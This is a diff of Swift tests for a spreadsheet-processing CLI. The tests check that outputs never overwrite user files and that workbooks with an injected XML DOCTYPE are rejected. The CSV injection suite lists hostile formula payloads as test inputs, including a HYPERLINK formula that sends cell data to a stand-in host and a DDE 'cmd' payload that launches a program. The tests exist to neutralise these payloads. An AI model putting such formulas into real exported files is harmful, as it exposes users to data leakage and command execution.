@@ -1,11 +1,12 @@
 import Foundation
-#if canImport(Glibc)
-import Glibc
-#endif
 import GoalSheetCLI
 import Report
 import Testing
 import ZIPArchive
+
+#if canImport(Glibc)
+    import Glibc
+#endif
 
 /// Nothing GoalSheet did not write is ever deleted or overwritten; outputs are complete or absent.
 @Suite("Safe outputs", .serialized)
@@ -16,7 +17,9 @@ struct SafeOutputTests {
         return d
     }
 
-    func listing(_ dir: String) -> [String] { ((try? FileManager.default.contentsOfDirectory(atPath: dir)) ?? []).sorted() }
+    func listing(_ dir: String) -> [String] {
+        ((try? FileManager.default.contentsOfDirectory(atPath: dir)) ?? []).sorted()
+    }
 
     let company = samplesDir + "/nexbridge_company_okr.xlsx"
 
@@ -33,7 +36,9 @@ struct SafeOutputTests {
         try fm.setAttributes([.posixPermissions: 0o444], ofItemAtPath: file)
         try fm.createSymbolicLink(atPath: dir + "/link.xlsx", withDestinationPath: "dept.xlsx")
 
-        #expect(cliExitCode(["annotate", "--company", company, "--as-of", "2025-12-31", "--in-place", dir + "/link.xlsx"]) == 0)
+        #expect(
+            cliExitCode(["annotate", "--company", company, "--as-of", "2025-12-31", "--in-place", dir + "/link.xlsx"])
+                == 0)
         #expect(listing(dir) == ["dept.xlsx", "dept.xlsx.1.bak", "dept.xlsx.2.bak", "dept.xlsx.bak", "link.xlsx"])
         #expect(try String(contentsOfFile: dir + "/dept.xlsx.bak/sub/precious.txt", encoding: .utf8) == "user data")
         #expect(try String(contentsOfFile: dir + "/dept.xlsx.1.bak", encoding: .utf8) == "old")
@@ -67,14 +72,19 @@ struct SafeOutputTests {
         let dir = tempDir()
         defer { try? FileManager.default.removeItem(atPath: dir) }
         let out = dir + "/out"
-        let args = ["analyze", "--company", company, samplesDir + "/dev_okr_2025h2.xlsx", "--as-of", "2025-12-31", "--out", out]
+        let args = [
+            "analyze", "--company", company, samplesDir + "/dev_okr_2025h2.xlsx", "--as-of", "2025-12-31", "--out", out,
+        ]
         #expect(cliExitCode(args) == 0)
         #expect(listing(out).contains("summary.xlsx") && listing(out).contains("annotated"))
         // A killed run's folder and an earlier run: the first is cleaned up, the second kept aside.
         try FileManager.default.createDirectory(atPath: dir + "/.out.999999999.tmp", withIntermediateDirectories: true)
         #expect(cliExitCode(args + ["--no-annotate"]) == 0)
         #expect(listing(dir) == ["out", "out.previous"])
-        #expect(listing(out) == [".goalsheet-run", "alignment.csv", "departments.csv", "findings.csv", "model.json", "summary.csv"])
+        #expect(
+            listing(out) == [
+                ".goalsheet-run", "alignment.csv", "departments.csv", "findings.csv", "model.json", "summary.csv",
+            ])
         #expect(listing(out + ".previous").contains("summary.xlsx"))
         // Removing the earlier run (the one without workbooks) leaves the one before it as it was.
         #expect(cliExitCode(args + ["--previous", "remove"]) == 0)
@@ -93,8 +103,12 @@ struct SafeOutputTests {
         #expect(run?.description == dir + "/file/out: the run's folder cannot be made beside it: Not a directory")
         // A failure inside the run names the file as it would have been, and keeps nothing.
         let folder = try RunFolder(target: dir + "/out")
-        let failed = folder.discard(after: SafeOutputError(.io, folder.path("goals.json"), "cannot be written: No space left on device"))
-        #expect(failed.description == dir + "/out/goals.json: cannot be written: No space left on device; nothing of this run was kept, and \(dir)/out is as it was")
+        let failed = folder.discard(
+            after: SafeOutputError(.io, folder.path("goals.json"), "cannot be written: No space left on device"))
+        #expect(
+            failed.description == dir
+                + "/out/goals.json: cannot be written: No space left on device; nothing of this run was kept, and \(dir)/out is as it was"
+        )
         #expect(listing(dir) == ["file"])
     }
 
@@ -117,7 +131,10 @@ struct SafeOutputTests {
         try Data("mine".utf8).write(to: URL(fileURLWithPath: dir + "/notes.txt"))
         #expect(cliExitCode(["normalize", samplesDir + "/dev_okr_2025h2.xlsx", "--out", dir]) != 0)
         #expect(listing(dir) == ["notes.txt"])
-        #expect(listing((dir as NSString).deletingLastPathComponent).filter { $0.hasPrefix(".\((dir as NSString).lastPathComponent).") }.isEmpty)
+        #expect(
+            listing((dir as NSString).deletingLastPathComponent).filter {
+                $0.hasPrefix(".\((dir as NSString).lastPathComponent).")
+            }.isEmpty)
     }
 
     @Test func onlyRegularFilesAreOpened() throws {
@@ -144,12 +161,15 @@ struct SafeOutputTests {
         let w = try ZipWriter(path: file)
         for e in source.entries {
             var bytes = try source.contents(of: e)
-            if e.name == "xl/worksheets/sheet1.xml" { bytes = Array("<!DOCTYPE worksheet [<!ENTITY e \"x\">]>".utf8) + bytes }
+            if e.name == "xl/worksheets/sheet1.xml" {
+                bytes = Array("<!DOCTYPE worksheet [<!ENTITY e \"x\">]>".utf8) + bytes
+            }
             try w.add(name: e.name, data: bytes)
         }
         try w.finish()
         #expect(cliExitCode(["normalize", file, "--out", dir + "/n"]) == 3)
-        #expect(cliExitCode(["analyze", "--company", company, file, "--as-of", "2025-12-31", "--out", dir + "/o"]) == 3)
+        #expect(
+            cliExitCode(["analyze", "--company", company, file, "--as-of", "2025-12-31", "--out", dir + "/o"]) == 3)
         #expect(listing(dir + "/o/annotated") == ["nexbridge_company_okr.annotated.xlsx"])
         #expect(cliExitCode(["annotate", "--company", company, file, "--as-of", "2025-12-31"]) == 3)
         #expect(!listing(dir).contains("dtd.annotated.xlsx"))
@@ -165,8 +185,11 @@ struct SafeOutputTests {
 
 @Suite("CSV injection")
 struct CSVInjectionTests {
-    @Test(arguments: [("=HYPERLINK(\"http://x\"&A1,\"詳細\")", "'=HYPERLINK(\"http://x\"&A1,\"詳細\")"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
-                      ("@SUM(A1)", "'@SUM(A1)"), ("\t=1+1", "'\t=1+1"), ("-5", "-5"), ("+3.5", "+3.5"), ("売上", "売上"), ("-", "'-")])
+    @Test(arguments: [
+        ("=HYPERLINK(\"http://x\"&A1,\"詳細\")", "'=HYPERLINK(\"http://x\"&A1,\"詳細\")"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("@SUM(A1)", "'@SUM(A1)"), ("\t=1+1", "'\t=1+1"), ("-5", "-5"), ("+3.5", "+3.5"), ("売上", "売上"), ("-", "'-"),
+    ])
     func fieldsThatWouldRunAreNeutralised(_ field: String, _ written: String) {
         #expect(CSVWriter.neutralized(field) == written)
     }
